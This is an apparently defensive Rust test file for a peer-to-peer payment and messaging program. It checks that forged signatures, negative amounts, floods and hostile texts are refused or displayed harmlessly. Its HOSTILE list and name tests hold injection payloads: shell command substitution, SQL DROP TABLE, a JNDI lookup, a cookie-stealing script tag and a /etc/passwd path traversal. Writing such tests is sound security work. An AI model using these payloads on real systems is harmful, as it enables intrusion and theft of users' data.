//! What can be written to somebody, and what must not come of it.

use crate::support::{Forge, Lab, RawPeer, secret_in, so, wait_until};
use crate::{SOON, Target};
use raclette::canonical::CappedText;
use raclette::chain::transaction::Note;
use raclette::chain::{Action, Amount, EncodedTransaction};
use raclette::keys::{MAX_NOTE_TEXT, NoteSeed, NoteText, SecretKey, Signature};
use raclette::owner::answers::NoteView;
use raclette::protocol::delivery::rows::SendState;
use raclette::wire::{Message, ReceiptCode, ReceiptStatement};
use std::fs;

/// Texts that made other programs run what they were sent, or fail at it.
const HOSTILE: [&str; 10] = [
    "__import__('os').system('touch owned')",
    "$(touch owned); `touch owned` | sh",
    "'; DROP TABLE members; --",
    "{{7*7}} ${jndi:ldap://127.0.0.1/x} %n%n%s",
    "<script>fetch('//127.0.0.1/'+document.cookie)</script>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}drah",
    "line one\r\nline two\n\u{0}after a zero",
    "../../../../etc/passwd",
    "\u{feff}ａ\u{301}👩‍👩‍👧‍👦",
    "[[[[[[[[[[[[[[[[[[[[{\"a\":1e999}",
];

/// `eval` of received text: lesson 2.
#[test]
fn attack_received_text_is_shown_and_nothing_else() {
    let lab = Lab::start();
    let [alice, bob] = lab.peers(["alice", "bob"]);
    alice.knows(&["bob"]);
    for text in HOSTILE {
        alice.write("bob", 0, Some(text));
    }
    bob.has_notes(&HOSTILE);
    for command in ["inbox", "history"] {
        let shown = bob.command([command]);
        assert!(shown.status.success(), "{shown:?}");
        let text = String::from_utf8(shown.stdout).unwrap();
        let steers = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!text.contains(steers), "{text:?}");
    }
    let owned = fs::read_dir(lab.directory()).unwrap();
    let mut names = owned.map(|entry| entry.unwrap().file_name());
    assert!(names.all(|name| name != "owned"));
    assert!(!std::path::Path::new("owned").exists());
}

/// A message of 60 characters crashes the encryption: lesson 15.
#[test]
fn attack_notes_of_any_length_arrive_and_longer_ones_are_refused() {
    let lab = Lab::start();
    let [alice, bob] = lab.peers(["alice", "bob"]);
    alice.knows(&["bob"]);
    let lengths = [1, 59, 60, 61, 64, 65, 255, 1_000, 4_097, MAX_NOTE_TEXT];
    let texts = lengths.map(|length| "é".repeat(length / 2) + &"x".repeat(length % 2));
    for text in &texts {
        alice.write("bob", 0, Some(text));
    }
    bob.has_notes(&texts.each_ref().map(String::as_str));
    for wrong in [String::new(), "x".repeat(MAX_NOTE_TEXT + 1)] {
        let refused = alice.try_write("bob", 0, Some(&wrong)).unwrap_err();
        assert_eq!(refused.status, 400, "{refused}");
    }
    // So long that the request itself is refused.
    let refused = alice.try_write("bob", 0, Some(&"x".repeat(1 << 20)));
    assert!(refused.is_err());
}

/// SQL injected through a peer's name: lesson 19. And a payment of -5: lesson 6.
#[test]
fn attack_names_and_amounts_that_are_commands_send_nothing() {
    let lab = Lab::start();
    let [alice, bob] = lab.peers(["alice", "bob"]);
    alice.knows(&["bob"]);
    alice.mine();
    for name in [
        "bob'; DROP TABLE members; --",
        "' OR '1'='1",
        "*",
        "bob\u{0}",
        "BOB ",
        "",
    ] {
        let refused = alice.try_write(name, 1, None).unwrap_err();
        assert_eq!(refused.error.code, "unknown_member", "{refused}");
    }
    for amount in ["-5", "1.5", "1e3", "NaN", "0x10", "99999999999999999999"] {
        let sent = alice.command(["send", "bob", amount]);
        assert_eq!(sent.status.code(), Some(2), "{amount}: {sent:?}");
    }
    assert_eq!(alice.outbox().queued, 0);
    assert_eq!(alice.history().entries, []);
    assert_eq!(bob.inbox(), []);
    assert_eq!(alice.balance("alice"), 50);
}

/// The signature is never checked: lesson 14.
#[test]
fn attack_only_what_its_sender_signed_is_taken_in() {
    let target = Target::start();
    target.alice.mine_blocks(2);
    let forge = Forge::new(target.genesis.clone());
    let alice = target.genesis.content.founder;
    let key = |seed: u8| SecretKey::from_bytes([seed; 32]);
    let signed = |seed, to, amount| {
        EncodedTransaction::new(forge.payload(&key(seed), to, amount, 9).sign(&key(seed)))
    };
    let to = secret_in(&target.alice.data_dir.join("key.pem")).sealing_key();
    let note = |seed: u8| {
        let mut payload = forge.payload(&key(seed), alice, 0, 9);
        let (about, text) = (
            payload.note_context().unwrap(),
            NoteText::new("hi").unwrap(),
        );
        let sealed = key(seed).seal_note(&to, &about, &text, &NoteSeed::default());
        payload.action = Action::Transfer {
            to: alice,
            amount: Amount(0),
            note: Note::new(sealed.unwrap()).unwrap(),
        };
        payload
    };
    // By a member, so that nothing else speaks against it.
    target.alice.knows(&["mallory"]);
    let mut forged = note(200).sign(&key(200));
    forged.signature = Signature([1; 64]);
    let mut of_another = note(72);
    of_another.sender = alice;
    for (seed, delivered, why) in [
        (200, EncodedTransaction::new(forged), "bad signature"),
        // Another's name upon it.
        (
            72,
            EncodedTransaction::new(of_another.sign(&key(72))),
            "by another than its sender",
        ),
        (73, signed(74, alice, 1), "by another than its sender"),
        // What is for somebody else.
        (75, signed(75, key(76).public_key(), 1), "for somebody else"),
    ] {
        let mut attacker = target.attacker(seed);
        attacker.send(&Message::Deliver(delivered));
        let closed = attacker.expect_close(SOON).unwrap_or_default();
        assert!(closed.contains(why), "{seed}: {closed}");
    }
    // A receipt for nothing, and one by another.
    let mut attacker = target.attacker(77);
    let statement = ReceiptStatement {
        network: target.network(),
        transaction: signed(77, alice, 1).id(),
        recipient: key(77).public_key(),
        code: ReceiptCode::Accepted,
        reason: CappedText::default(),
        height: target.genesis.header.height,
        block: target.network(),
    };
    attacker.send(&Message::Receipt(statement.sign(&key(77))));
    let closed = attacker.expect_close(SOON).unwrap_or_default();
    assert!(closed.contains("not delivered"), "{closed}");
    assert_eq!(target.alice.inbox(), []);
    assert_eq!(target.alice.open(), Vec::<String>::new());
    target.assert_well();
}

/// The recipient signed "accepted" for what it can't read, while its sender's copy said "you owe me 100".
#[test]
fn attack_a_note_that_its_recipient_can_not_read_gets_no_yes() {
    let target = Target::start();
    target.alice.mine_blocks(2);
    let forge = Forge::new(target.genesis.clone());
    let alice = target.genesis.content.founder;
    target.alice.knows(&["mallory"]);
    let mut attacker = target.attacker(200);
    let mut payload = forge.payload(&attacker.key, alice, 0, 9);
    payload.action = Action::Transfer {
        to: alice,
        amount: Amount(0),
        // As long as a sealed note is, and of its form.
        note: Note::new([vec![2], vec![7; 274]].concat()).unwrap(),
    };
    let delivered = EncodedTransaction::new(payload.sign(&attacker.key));
    attacker.send(&Message::Deliver(delivered.clone()));
    let said = attacker.expect("a receipt", |message| match message {
        Message::Receipt(receipt) => Some(receipt.statement),
        _ => None,
    });
    assert_eq!(said.transaction, delivered.id());
    assert_eq!(said.code, ReceiptCode::NoteUnreadable);
    assert!(
        said.reason.as_str().contains("can't read the note"),
        "{}",
        said.reason
    );
    assert_eq!(target.alice.inbox(), []);
    assert_eq!(target.alice.open(), Vec::<String>::new());
    target.assert_well();
}

/// A payment of -1,000 credits its sender: lesson 6.
#[test]
fn attack_a_delivery_of_less_than_nothing_pays_nobody() {
    let target = Target::start();
    target.alice.mine_blocks(2);
    let before = target.alice.balance("alice");
    let alice = target.genesis.content.founder;
    let forge = Forge::new(target.genesis.clone());
    // A member, so that nothing else speaks against it.
    target.alice.knows(&["mallory"]);
    let mut attacker = target.attacker(200);
    let owed = 1_000_u64.wrapping_neg();
    let payment = forge.transfer(&attacker.key, alice, owed, 1);
    attacker.send(&Message::Deliver(payment.clone()));
    let said = attacker.expect("a receipt", |message| match message {
        Message::Receipt(receipt) => Some(receipt.statement),
        _ => None,
    });
    assert_eq!(said.transaction, payment.id());
    assert_eq!(said.code, ReceiptCode::CoinsMissing);
    assert!(
        said.reason.as_str().contains("insufficient funds"),
        "{}",
        said.reason
    );
    // The same eight bytes with a sign, which no program of ours can be made to write.
    let mut frame = Message::Deliver(payment).to_frame().unwrap();
    let unsigned = [&[0xcf], owed.to_be_bytes().as_slice()].concat();
    let mut windows = frame.windows(unsigned.len());
    let at = windows.position(|window| window == unsigned);
    frame[at.expect("the amount stands in it")] = 0xd3;
    attacker.send_bytes(&frame);
    attacker.expect_close(SOON);
    assert_eq!(target.alice.inbox(), []);
    assert_eq!(target.alice.open(), Vec::<String>::new());
    assert_eq!(target.alice.balance("alice"), before);
    target.assert_well();
}

#[test]
fn attack_a_recipients_receipt_by_another_key_counts_for_nothing_and_is_not_passed_over() {
    let target = Target::start();
    target.alice.mine_blocks(2);
    let mut mallory = RawPeer::member(
        target.alice.listen,
        200,
        target.network(),
        &target.lab.tracker_key(),
    );
    let id = target.alice.write_when_known("mallory", 5);
    let delivered = mallory.expect("a delivery", |message| match message {
        Message::Deliver(transaction) => Some(transaction),
        _ => None,
    });
    let statement = ReceiptStatement {
        network: target.network(),
        transaction: delivered.id(),
        recipient: mallory.public_key(),
        code: ReceiptCode::Blocked,
        reason: CappedText::new("no").unwrap(),
        height: target.genesis.header.height,
        block: target.network(),
    };
    mallory.send(&Message::Receipt(
        statement.sign(&SecretKey::from_bytes([9; 32])),
    ));
    let closed = mallory.expect_close(SOON).unwrap_or_default();
    assert!(closed.contains("not signed by its recipient"), "{closed}");
    assert_eq!(target.alice.sent(&id).state, SendState::Queued);
}

#[test]
fn attack_a_flood_of_deliveries_ends_the_session_that_it_comes_from() {
    let target = Target::start();
    let mut attacker = target.attacker(81);
    let (key, alice) = (
        SecretKey::from_bytes([81; 32]),
        target.genesis.content.founder,
    );
    let forge = Forge::new(target.genesis.clone());
    // Of somebody without coins: each is answered, and none is kept.
    for number in 0..2_000_u64 {
        let mut payload = forge.payload(&key, alice, 1 + number, 9);
        payload.salt.0[..8].copy_from_slice(&number.to_le_bytes());
        let delivered = EncodedTransaction::new(payload.sign(&key));
        attacker.send(&Message::Deliver(delivered));
    }
    // Who still sends while it is let go may not hear why: what was on the way to it goes with the connection.
    attacker.expect_close(SOON);
    let told = "more was delivered at once than may be";
    wait_until("alice says why", || {
        let output = target.alice.output();
        so(output.contains(told), output)
    });
    assert_eq!(target.alice.inbox(), []);
    target.assert_well();
}

/// The reward overwrites the payments: lesson 8.
#[test]
fn attack_payments_and_rewards_of_one_block_are_all_paid() {
    let lab = Lab::start();
    let [alice, bob] = lab.peers(["alice", "bob"]);
    alice.knows(&["bob"]);
    let last = alice.mine_blocks(2);
    bob.reaches(&last);
    let paid: Vec<_> = (1..=10)
        .map(|amount| alice.write("bob", amount, None))
        .collect();
    for id in &paid {
        alice.sees(id, SendState::Open);
    }
    let last = bob.mine().id.to_string();
    alice.reaches(&last);
    for id in &paid {
        alice.sees(id, SendState::Mined);
    }
    assert_eq!((alice.balance("alice"), alice.balance("bob")), (45, 105));
    wait_until("all are there once", || {
        let inbox = bob.inbox();
        let amounts: Vec<_> = inbox.iter().map(|message| message.amount.0).collect();
        so(
            amounts == (1..=10).collect::<Vec<_>>(),
            format!("{amounts:?}"),
        )
    });
    assert!(
        bob.inbox()
            .iter()
            .all(|message| message.note != Some(NoteView::Text(String::new())))
    );
}
